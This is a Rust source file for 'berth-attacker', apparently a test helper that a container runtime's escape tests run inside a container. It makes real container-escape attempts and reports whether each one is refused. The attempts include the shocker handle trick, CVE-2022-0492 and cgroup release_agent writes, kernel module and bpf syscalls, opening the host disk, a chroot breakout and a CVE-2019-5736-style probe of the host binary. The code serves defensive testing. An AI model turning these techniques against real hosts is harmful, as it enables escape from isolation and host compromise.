//! berth-attacker: runs *inside* a container and tries to get out. The
//! escape tests (tests/tests/escape_*.rs) put it into an image and assert
//! that every attempt fails. Each attempt is one real system call or file
//! operation; the result is printed, never judged here.
//!
//! usage:
//!   berth-attacker syscalls            one line per attack: `NAME refused ERRNO`
//!                                      or `NAME SUCCEEDED detail`
//!   berth-attacker watch-exe DEV:INO LOG STOP
//!                                      CVE-2019-5736 class: watch /proc/*/exe
//!                                      for the host binary DEV:INO, try to
//!                                      open it for writing, log to LOG, stop
//!                                      when the file STOP appears
//!   berth-attacker fds                 every open fd and the cwd of this
//!                                      process and of PID 1 (CVE-2024-21626)
//!   berth-attacker ids                 real and effective uid/gid
//!
//! Only std and libc: it runs in a busybox image with the host's C library
//! copied next to it.

use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn errno_name(code: i32) -> String {
    let name = match code {
        libc::EPERM => "EPERM",
        libc::ENOENT => "ENOENT",
        libc::EACCES => "EACCES",
        libc::EROFS => "EROFS",
        libc::ENOSYS => "ENOSYS",
        libc::EINVAL => "EINVAL",
        libc::EBADF => "EBADF",
        libc::EFAULT => "EFAULT",
        libc::ETXTBSY => "ETXTBSY",
        libc::ENOTDIR => "ENOTDIR",
        libc::EEXIST => "EEXIST",
        libc::ENODEV => "ENODEV",
        libc::ENXIO => "ENXIO",
        libc::EAFNOSUPPORT => "EAFNOSUPPORT",
        libc::ESTALE => "ESTALE",
        libc::EOPNOTSUPP => "EOPNOTSUPP",
        libc::ENOEXEC => "ENOEXEC",
        libc::EBUSY => "EBUSY",
        other => return format!("errno{other}"),
    };
    name.to_string()
}

/// Print the outcome of one attack: a negative return is a refusal.
fn report(name: &str, rc: i64, detail: &str) {
    if rc < 0 {
        println!("{name} refused {}", errno_name(errno()));
    } else {
        println!("{name} SUCCEEDED {detail}");
    }
}

fn c(text: &str) -> CString {
    CString::new(text).unwrap()
}

fn open(path: &str, flags: i32) -> i64 {
    // SAFETY: a valid NUL-terminated path; the fd is leaked on purpose (the
    // process ends soon).
    unsafe { libc::open(c(path).as_ptr(), flags | libc::O_CLOEXEC) as i64 }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        Some("syscalls") => syscalls(),
        Some("watch-exe") if args.len() == 5 => watch_exe(&args[2], &args[3], &args[4]),
        Some("fds") => fds(),
        Some("ids") => {
            // SAFETY: id getters have no failure modes.
            let (uid, euid, gid, egid) = unsafe {
                (
                    libc::getuid(),
                    libc::geteuid(),
                    libc::getgid(),
                    libc::getegid(),
                )
            };
            println!("uid={uid} euid={euid} gid={gid} egid={egid}");
        }
        _ => {
            eprintln!("usage: berth-attacker syscalls | watch-exe DEV:INO LOG STOP | fds | ids");
            std::process::exit(2);
        }
    }
}

/// The attacks from inside a default container. Each is explained where it
/// is made; the test decides what counts as refused.
fn syscalls() {
    shocker();
    let _ = fs::create_dir_all("/tmp/target");
    // SAFETY (all raw calls below): pointers are to live, NUL-terminated
    // strings or properly sized buffers; return values are only reported.
    unsafe {
        let rc = libc::mount(
            c("none").as_ptr(),
            c("/tmp/target").as_ptr(),
            c("tmpfs").as_ptr(),
            0,
            std::ptr::null(),
        );
        report("mount_tmpfs", rc as i64, "mounted a tmpfs");
        let rc = libc::mount(
            c("cgroup").as_ptr(),
            c("/tmp/target").as_ptr(),
            c("cgroup").as_ptr(),
            0,
            c("memory").as_ptr().cast(),
        );
        report(
            "mount_cgroup_v1",
            rc as i64,
            "mounted a cgroup v1 hierarchy",
        );
        let rc = libc::umount2(c("/proc/keys").as_ptr(), libc::MNT_DETACH);
        report("umount_masked_path", rc as i64, "unmasked /proc/keys");
        // Each namespace attempt runs in a child of its own: one that
        // succeeds must not change the context of the attempts after it.
        in_child(|| {
            let rc = libc::unshare(libc::CLONE_NEWUSER);
            report("unshare_user_ns", rc as i64, "entered a new user namespace");
        });
        // CVE-2022-0492: a user namespace gives CAP_SYS_ADMIN over a new
        // cgroup and mount namespace, where a cgroup v1 hierarchy can be
        // mounted and its release_agent (run as root on the host) written.
        in_child(|| {
            let rc = libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWCGROUP | libc::CLONE_NEWNS);
            report(
                "cve_2022_0492_unshare",
                rc as i64,
                "new user, cgroup and mount namespaces",
            );
            if rc != 0 {
                return;
            }
            let rc = libc::mount(
                c("cgroup").as_ptr(),
                c("/tmp/target").as_ptr(),
                c("cgroup").as_ptr(),
                0,
                c("rdma").as_ptr().cast(),
            );
            report(
                "cve_2022_0492_mount_cgroup",
                rc as i64,
                "mounted a cgroup v1 hierarchy",
            );
            if rc != 0 {
                return;
            }
            report(
                "cve_2022_0492_write_release_agent",
                open("/tmp/target/release_agent", libc::O_WRONLY),
                "opened release_agent for writing",
            );
        });
        in_child(|| {
            let rc = libc::syscall(
                libc::SYS_clone,
                (libc::CLONE_NEWUSER | libc::SIGCHLD) as libc::c_ulong,
                0usize,
                0usize,
                0usize,
                0usize,
            );
            if rc == 0 {
                libc::_exit(0);
            }
            if rc > 0 {
                libc::waitpid(rc as i32, std::ptr::null_mut(), 0);
            }
            report("clone_user_ns", rc, "cloned into a new user namespace");
        });
        in_child(|| {
            let mut args = [0u64; 11];
            args[0] = libc::CLONE_NEWUSER as u64;
            args[4] = libc::SIGCHLD as u64;
            let rc = libc::syscall(
                libc::SYS_clone3,
                args.as_mut_ptr(),
                std::mem::size_of_val(&args),
            );
            if rc == 0 {
                libc::_exit(0);
            }
            if rc > 0 {
                libc::waitpid(rc as i32, std::ptr::null_mut(), 0);
            }
            report("clone3_user_ns", rc, "clone3 into a new user namespace");
        });
        let module = [0u8; 64];
        let rc = libc::syscall(
            libc::SYS_init_module,
            module.as_ptr(),
            module.len(),
            c("").as_ptr(),
        );
        report("init_module", rc, "loaded a kernel module");
        let null = libc::open(c("/dev/null").as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
        let rc = libc::syscall(libc::SYS_finit_module, null, c("").as_ptr(), 0);
        report("finit_module", rc, "loaded a kernel module");
        let rc = libc::syscall(
            libc::SYS_delete_module,
            c("loop").as_ptr(),
            libc::O_NONBLOCK,
        );
        report("delete_module", rc, "unloaded a kernel module");
        // KEYCTL_JOIN_SESSION_KEYRING with a name: reaches the kernel keyring.
        let rc = libc::syscall(libc::SYS_keyctl, 1, c("berth-attack").as_ptr());
        report("keyctl", rc, "joined a kernel keyring");
        let rc = libc::syscall(
            libc::SYS_add_key,
            c("user").as_ptr(),
            c("berth-attack").as_ptr(),
            c("x").as_ptr(),
            1usize,
            -3i32, // KEY_SPEC_SESSION_KEYRING
        );
        report("add_key", rc, "added a key");
        let rc = libc::syscall(libc::SYS_bpf, 5 /* BPF_PROG_LOAD */, 0usize, 0usize);
        report("bpf", rc, "bpf() accepted");
        let mut attr = [0u8; 128];
        attr[4..8].copy_from_slice(&128u32.to_ne_bytes());
        let rc = libc::syscall(libc::SYS_perf_event_open, attr.as_mut_ptr(), -1, 0, -1, 0);
        report("perf_event_open", rc, "opened a perf event");
        let rc = libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC);
        report("userfaultfd", rc, "got a userfaultfd");
        let rc = libc::syscall(libc::SYS_kexec_load, 0usize, 0usize, 0usize, 0usize);
        report("kexec_load", rc, "kexec_load accepted");
        // LINUX_REBOOT_CMD_CAD_OFF: harmless even if it worked.
        let rc = libc::syscall(
            libc::SYS_reboot,
            0xfee1_deadu32,
            672_274_793u32,
            0u32,
            std::ptr::null::<u8>(),
        );
        report("reboot", rc, "reboot() accepted");
        let rc = libc::swapon(c("/dev/null").as_ptr(), 0);
        report("swapon", rc as i64, "swapon accepted");
        let mut now = std::mem::zeroed::<libc::timespec>();
        libc::clock_gettime(libc::CLOCK_REALTIME, &mut now);
        let rc = libc::clock_settime(libc::CLOCK_REALTIME, &now);
        report("clock_settime", rc as i64, "set the host clock");
        let mut params = [0u8; 120];
        let rc = libc::syscall(libc::SYS_io_uring_setup, 1u32, params.as_mut_ptr());
        report("io_uring_setup", rc, "got an io_uring");
        let rc = libc::socket(40 /* AF_VSOCK */, libc::SOCK_STREAM, 0);
        report("socket_vsock", rc as i64, "opened a vsock socket");
        let rc = libc::personality(0x0040000 /* ADDR_NO_RANDOMIZE */);
        report("personality_no_aslr", rc as i64, "disabled ASLR");
        let rc = libc::syscall(libc::SYS_setns, null, 0);
        report("setns", rc, "setns accepted");
        let rc = libc::syscall(
            libc::SYS_pivot_root,
            c("/tmp").as_ptr(),
            c("/tmp/target").as_ptr(),
        );
        report("pivot_root", rc, "pivot_root accepted");
    }
    report(
        "open_proc_sysrq_trigger",
        open("/proc/sysrq-trigger", libc::O_WRONLY),
        "opened /proc/sysrq-trigger for writing",
    );
    let kcore = open("/proc/kcore", libc::O_RDONLY);
    report("read_proc_kcore", read_one(kcore), "read kernel memory");
    for path in [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/sys/kernel/uevent_helper",
        "/proc/sys/vm/drop_caches",
    ] {
        let name = format!("write_{}", path.trim_start_matches('/').replace('/', "_"));
        report(&name, open(path, libc::O_WRONLY), "opened for writing");
    }
    release_agents();
    host_disk();
    chroot_breakout();
}

/// Run `attempt` in a forked child and wait for it; its output is flushed
/// before it ends.
fn in_child(attempt: impl FnOnce()) {
    let _ = std::io::stdout().flush();
    // SAFETY: the attacker is single-threaded; the child runs `attempt`,
    // flushes and leaves with _exit.
    match unsafe { libc::fork() } {
        0 => {
            attempt();
            let _ = std::io::stdout().flush();
            // SAFETY: ending the child without the parent's exit handlers.
            unsafe { libc::_exit(0) }
        }
        pid if pid > 0 => {
            // SAFETY: waiting for our own child.
            unsafe { libc::waitpid(pid, std::ptr::null_mut(), 0) };
        }
        _ => println!("fork refused {}", errno_name(errno())),
    }
}

fn read_one(fd: i64) -> i64 {
    if fd < 0 {
        return fd;
    }
    let mut byte = [0u8; 1];
    // SAFETY: reading one byte into a live buffer.
    unsafe { libc::read(fd as i32, byte.as_mut_ptr().cast(), 1) as i64 }
}

/// "shocker" (2014): open the host's root directory by handle (inode 2,
/// generation 0, type FILEID_INO32_GEN) from any fd on the same filesystem.
fn shocker() {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        data: [u8; 8],
    }
    let mut handle = Handle {
        bytes: 8,
        kind: 1,
        data: [2, 0, 0, 0, 0, 0, 0, 0],
    };
    let root = open("/", libc::O_RDONLY | libc::O_DIRECTORY);
    // SAFETY: handle is a live, correctly laid out file_handle with 8 bytes.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            root as i32,
            &mut handle as *mut Handle,
            libc::O_RDONLY,
        )
    };
    report("open_by_handle_at", rc, "opened an inode by handle");
}

/// CVE-2022-0492 and the classic cgroup v1 escape: a `release_agent` the
/// kernel runs as root on the host when a cgroup empties.
fn release_agents() {
    let mut found = 0;
    for hierarchy in fs::read_dir("/sys/fs/cgroup")
        .into_iter()
        .flatten()
        .flatten()
    {
        let path = hierarchy.path().join("release_agent");
        if path.exists() {
            found += 1;
            report(
                &format!(
                    "write_release_agent_{}",
                    hierarchy.file_name().to_string_lossy()
                ),
                open(path.to_str().unwrap(), libc::O_WRONLY),
                "opened release_agent for writing",
            );
        }
        let notify = hierarchy.path().join("notify_on_release");
        if notify.exists() {
            report(
                &format!(
                    "write_notify_on_release_{}",
                    hierarchy.file_name().to_string_lossy()
                ),
                open(notify.to_str().unwrap(), libc::O_WRONLY),
                "opened notify_on_release for writing",
            );
        }
    }
    println!("release_agent_files_visible {found}");
}

/// Make a node for the host's first disk and open it: the device cgroup
/// must refuse the open even though mknod (CAP_MKNOD) is allowed.
fn host_disk() {
    // The test names a device the host itself can open (BERTH_ATTACK_DISK=
    // MAJOR:MINOR), so a refusal here is the container's, not the host's.
    let named = std::env::var("BERTH_ATTACK_DISK").ok().and_then(|v| {
        let (a, b) = v.split_once(':')?;
        Some((a.parse::<u32>().ok()?, b.parse::<u32>().ok()?))
    });
    let partitions = fs::read_to_string("/proc/partitions").unwrap_or_default();
    let Some((major, minor)) = named.or_else(|| {
        partitions.lines().skip(2).find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() == 4)
                .then(|| (f[0].parse::<u32>().ok(), f[1].parse::<u32>().ok()))
                .and_then(|(a, b)| Some((a?, b?)))
        })
    }) else {
        println!("open_host_disk refused no-disk-listed");
        return;
    };
    let path = "/tmp/host-disk";
    let _ = fs::remove_file(path);
    // SAFETY: valid path; makedev of small numbers.
    let rc = unsafe {
        libc::mknod(
            c(path).as_ptr(),
            libc::S_IFBLK | 0o600,
            libc::makedev(major, minor),
        )
    };
    println!(
        "mknod_host_disk {}",
        if rc == 0 { "made" } else { "failed" }
    );
    report(
        "open_host_disk",
        read_one(open(path, libc::O_RDONLY)),
        "read the host's disk",
    );
}

/// The classic chroot escape: chroot into a subdirectory while keeping the
/// cwd above it, then walk up. With pivot_root (and the old root unmounted)
/// there is nothing above the container's root to reach.
fn chroot_breakout() {
    let before = fs::metadata("/").map(|m| (m.dev(), m.ino())).ok();
    let _ = fs::create_dir_all("/tmp/jail");
    // SAFETY: valid paths; the process only reports afterwards.
    unsafe {
        let _ = libc::chdir(c("/").as_ptr());
        if libc::chroot(c("/tmp/jail").as_ptr()) != 0 {
            println!("chroot_breakout refused {}", errno_name(errno()));
            return;
        }
        for _ in 0..64 {
            libc::chdir(c("..").as_ptr());
        }
        libc::chroot(c(".").as_ptr());
    }
    let after = fs::metadata("/").map(|m| (m.dev(), m.ino())).ok();
    if after == before {
        println!("chroot_breakout refused stayed-in-container-root");
    } else {
        println!("chroot_breakout SUCCEEDED reached a root above the container's");
    }
}

/// CVE-2019-5736 class, the attacker's side (see the module docs).
fn watch_exe(target: &str, log_path: &str, stop: &str) {
    let (dev, ino) = target
        .split_once(':')
        .and_then(|(d, i)| Some((d.parse::<u64>().ok()?, i.parse::<u64>().ok()?)))
        .expect("DEV:INO");
    let mut log = OpenOptions::new()
        .create(true)
        .append(true)
        .open(log_path)
        .expect("open log");
    let me = std::process::id().to_string();
    // Fds of the host binary, with the pid they came from.
    let mut held: Vec<(String, OwnedFd)> = Vec::new();
    let mut seen: std::collections::BTreeSet<String> = Default::default();
    let mut exited: std::collections::BTreeSet<String> = Default::default();
    let started = Instant::now();
    let mut scans: u64 = 0;
    while !std::path::Path::new(stop).exists() && started.elapsed() < Duration::from_secs(300) {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let fd = open(&exe, libc::O_PATH);
            if fd < 0 {
                continue;
            }
            // SAFETY: a fresh fd from open(2) that nothing else owns.
            let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
            let Ok(meta) = fs::metadata(format!("/proc/self/fd/{}", fd.as_raw_fd())) else {
                continue;
            };
            if (meta.dev(), meta.ino()) != (dev, ino) || !seen.insert(pid.clone()) {
                continue;
            }
            let direct = open(&exe, libc::O_WRONLY);
            let direct = if direct < 0 {
                errno_name(errno())
            } else {
                "OPENED".into()
            };
            let reopen = open(&format!("/proc/self/fd/{}", fd.as_raw_fd()), libc::O_WRONLY);
            let reopen = if reopen < 0 {
                errno_name(errno())
            } else {
                "OPENED".into()
            };
            let _ = writeln!(log, "seen {pid} write-open {direct} reopen {reopen}");
            held.push((pid, fd));
        }
        // The real attack waits until the binary no longer runs: retry the
        // held fds of processes that have exited.
        for (pid, fd) in &held {
            if exited.contains(pid) || std::path::Path::new(&format!("/proc/{pid}")).exists() {
                continue;
            }
            let reopen = open(&format!("/proc/self/fd/{}", fd.as_raw_fd()), libc::O_WRONLY);
            let reopen = if reopen < 0 {
                errno_name(errno())
            } else {
                "OPENED".into()
            };
            let _ = writeln!(log, "after-exit {pid} reopen {reopen}");
            exited.insert(pid.clone());
        }
        scans += 1;
        if scans == 1 {
            let _ = writeln!(log, "ready");
        }
    }
    // The last try, once the test says nothing on the host runs the binary
    // any more: this is when the real attack writes.
    for (pid, fd) in &held {
        let reopen = open(&format!("/proc/self/fd/{}", fd.as_raw_fd()), libc::O_WRONLY);
        let reopen = if reopen < 0 {
            errno_name(errno())
        } else {
            "OPENED".into()
        };
        let _ = writeln!(log, "final {pid} reopen {reopen}");
    }
    let _ = writeln!(log, "done scans {scans}");
}

/// Every open fd of this process and of PID 1, and both working directories.
fn fds() {
    for pid in ["self", "1"] {
        let dir = format!("/proc/{pid}/fd");
        let listing = fs::read_dir(&dir);
        let Ok(listing) = listing else {
            println!("{pid} fd-list-unreadable");
            continue;
        };
        // read_dir holds one fd of its own for the listing.
        let names: Vec<String> = listing
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        for name in names {
            let target = fs::read_link(format!("{dir}/{name}"))
                .map(|t| t.display().to_string())
                .unwrap_or_else(|_| "(gone)".into());
            println!("{pid} fd {name} {target}");
        }
        let cwd = fs::read_link(format!("/proc/{pid}/cwd"))
            .map(|t| t.display().to_string())
            .unwrap_or_else(|e| format!("(unreadable: {e})"));
        println!("{pid} cwd {cwd}");
    }
}
